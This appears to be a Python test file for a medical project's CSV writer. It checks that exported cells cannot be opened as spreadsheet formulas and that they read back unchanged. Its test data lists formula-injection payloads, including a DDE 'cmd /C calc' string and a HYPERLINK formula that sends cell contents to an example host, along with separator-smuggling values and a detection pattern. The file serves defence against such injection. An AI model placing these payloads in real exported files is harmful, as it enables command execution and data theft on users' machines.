"""CSV files are safe to open in a spreadsheet, and read back as they were written."""

from __future__ import annotations

import csv
import io
import math
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from medloop.documents.csv_text import csv_cell, csv_text, read_cell, read_csv
from medloop.evaluation.csv_table import CsvTable, to_csv

FORMULAS = (
    '=HYPERLINK("https://example.org/?" & A1, "open")',
    *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=1", "--1", "-1-1", "+49 30 1", "-", "=", "@"),
    *("\t=1", "\r=1", "\n=1", "\t1", " =1", "\u00a0=1", "\ufeff=1", "\u200b-x", "\x00=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20a"),
    *("'=1", "''=1"),
)
HIDDEN = ("a;=1", "a; +x", "a\t=1", "a\n=1", "a,=1", "1;-2;=3", "a|@b", "x\r\n=cmd")
"""Text that a spreadsheet with another separator sees as several cells."""
NUMBERS = ("-1.5", "+3", "-0", "-1e-5", "+1.5E+3", "-.5", "-3.", "7", "0.25")
TEXT = ("benign", "'t Hooft", "O'Neill", "''", "a-b", "a = b", "p0123456789ab", "", "1-2", "e@mail", "a;b", "\u2212x")
SPREADSHEET_START = re.compile(r"[\s\x00\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


def cells_of(text: str, separator: str) -> list[str]:
    """All cells that a spreadsheet with this separator sees, whether or not it knows quotes."""
    quoted = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    return [*quoted, *(cell.strip('"') for line in re.split(r"[\r\n]+", text) for cell in line.split(separator))]


@pytest.mark.parametrize("value", [*FORMULAS, *HIDDEN])
def test_no_text_begins_like_a_formula(value: str) -> None:
    """Regardless of how the file is opened; it reads back as the text."""
    text = csv_text([["name", value], [value, "x"]])
    for separator in ",;\t|":
        for cell in cells_of(text, separator):
            assert not SPREADSHEET_START.match(cell), (separator, cell)
    assert list(read_csv(text)) == [["name", value], [value, "x"]]


@pytest.mark.parametrize("value", [*NUMBERS, *TEXT])
def test_numbers_and_other_text_are_unchanged(value: str) -> None:
    """A negative number is a number, also as text (an age, an attribute of patients.csv)."""
    assert csv_cell(value) == value
    assert read_cell(value) == value


def test_numbers_stay_numbers() -> None:
    """Those of a table are rounded, undefined ones are empty."""
    assert csv_text([[-1, -0.125, 1e-12, None, math.inf, -1e300]]) == "-1,-0.125,1e-12,,inf,-1e+300\r\n"
    assert to_csv(CsvTable(("=a", "b"), [(-0.123456789, math.nan), (-7, "-7")])) == "'=a,b\r\n-0.123457,\r\n-7,-7\r\n"


@pytest.mark.slow
@given(st.lists(st.lists(st.text("=+-@'\t\r\n;,| \"a1\ufeff\uff1d", max_size=9), min_size=2, max_size=3), min_size=1))
def test_every_text_reads_back(rows: list[list[str]]) -> None:
    """Regardless of its signs."""
    assert list(read_csv(csv_text(rows))) == rows
